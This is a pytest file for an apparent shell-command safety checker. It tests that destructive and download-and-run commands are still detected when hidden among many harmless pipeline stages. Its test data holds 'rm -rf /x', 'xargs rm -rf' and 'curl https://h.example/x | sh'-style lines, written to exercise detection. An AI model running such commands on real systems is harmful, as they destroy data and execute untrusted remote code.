"""In a pipeline of many commands that are written alike each is looked at where something else stands near it."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read

MANY = "sort | " * 100


def rules(line: str) -> set[str]:
    return {effect.rule for effect in effects_of(read(line))}


def test_many_harmless_commands_have_no_effect() -> None:
    assert not rules(MANY + "sort")
    assert not rules("cat f | " + MANY + "wc")


@pytest.mark.parametrize(
    "line", ["cat /x | {}xargs rm -rf", "{}rm -rf /x", "rm -rf /x | {}sort", "{}rm -rf /x | {}sort"]
)
def test_what_destroys_is_found_between_many_others(line: str) -> None:
    assert rules(line.replace("{}", "sort | ")) <= rules(line.replace("{}", MANY))


@pytest.mark.parametrize("reader", ["sh", "bash", "sort | sh", "python3"])
def test_downloaded_code_that_comes_through_many_others_is_found(reader: str) -> None:
    assert rules(f"curl https://h.example/x | sort | {reader}") <= rules(
        f"curl https://h.example/x | {MANY}{reader}"
    )


def test_a_command_before_the_last_of_many_is_read_with_what_stands_behind_it() -> None:
    assert rules(f"{MANY}echo 'rm -rf /x' | sh") >= rules("echo 'rm -rf /x' | sh")
